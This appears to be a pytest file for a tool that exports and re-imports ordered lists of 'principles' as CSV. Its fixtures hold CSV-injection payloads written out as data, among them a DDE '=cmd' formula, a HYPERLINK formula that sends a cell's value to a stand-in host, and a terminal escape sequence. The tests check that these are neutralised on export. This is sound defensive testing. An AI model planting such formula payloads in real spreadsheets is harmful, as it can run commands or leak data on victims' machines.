"""An order that is saved is read again, by the report and by an import, whatever its principles are called."""

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from core.exporters.order_file import write_order
from core.importers.declared_order import read_order
from core.importers.importing import import_file
from core.importers.options import ImportOptions
from core.model.errors import FormatError
from core.model.terms import Principle
from core.storage.store import Store
from tests.core.building import WORKED, build
from tui.cli import cli

PRINCIPLES = (
    Principle(0, "0", '=cmd|"x"', 'Say "no", then go.'),
    Principle(1, "1", "0", "[red]Be, kind[/red]\x1b[2J"),
    Principle(2, "b", "Be honest", "Be honest"),
)


def test_it_is_read_again(tmp_path: Path) -> None:
    write_order(tmp_path / "order.csv", (PRINCIPLES[n] for n in (2, 0, 1)))
    assert read_order(tmp_path / "order.csv", PRINCIPLES) == (2, 0, 1)


FORMULAS = (
    Principle(0, "0", "=1+1", '=HYPERLINK("http://x.example/?"&A1,"click")'),
    Principle(1, "1", "+Be kind", "+Be kind"),
    Principle(2, "2", "'@SUM(1)", "'@SUM(1)"),
    Principle(3, "3", "-2+3", "Be fair."),
)


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    write_order(tmp_path / "order.csv", FORMULAS[::-1])
    with (tmp_path / "order.csv").open(newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["id", "name", "text"]
    assert [row[1] for row in rows] == ["'-2+3", "''@SUM(1)", "'+Be kind", "'=1+1"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert read_order(tmp_path / "order.csv", FORMULAS) == (3, 2, 1, 0)


@pytest.mark.parametrize("other_format", [None, "principles"])
def test_texts_come_back_as_they_were(tmp_path: Path, other_format: str | None) -> None:
    write_order(tmp_path / "order.csv", FORMULAS)
    import_file(tmp_path / "order.csv", tmp_path / "s.duckdb", ImportOptions(format=other_format))
    with Store.open(tmp_path / "s.duckdb") as store:
        assert [(each.name, each.text) for each in store.principles()] == [(each.name, each.text) for each in FORMULAS]


def test_a_file_of_endless_lines_is_refused_early(tmp_path: Path) -> None:
    (tmp_path / "many.txt").write_text("x\n" * 100_001)
    with pytest.raises(FormatError, match="more than 100,000 lines: give the file that names the principles"):
        read_order(tmp_path / "many.txt", PRINCIPLES)


def test_an_import_declares_it(tmp_path: Path) -> None:
    path = build(tmp_path / "s.duckdb", WORKED, {})
    with Store.open(path) as store:
        principles = store.principles()
    write_order(tmp_path / "order.csv", (principles[n] for n in (2, 0, 1)))
    found = CliRunner().invoke(cli, ["import", str(tmp_path / "order.csv"), "--declared-order", "-s", str(path)])
    assert found.exit_code == 0, found.output
    with Store.open(path) as store:
        assert store.declared_order() == (2, 0, 1)
        assert store.principles() == principles
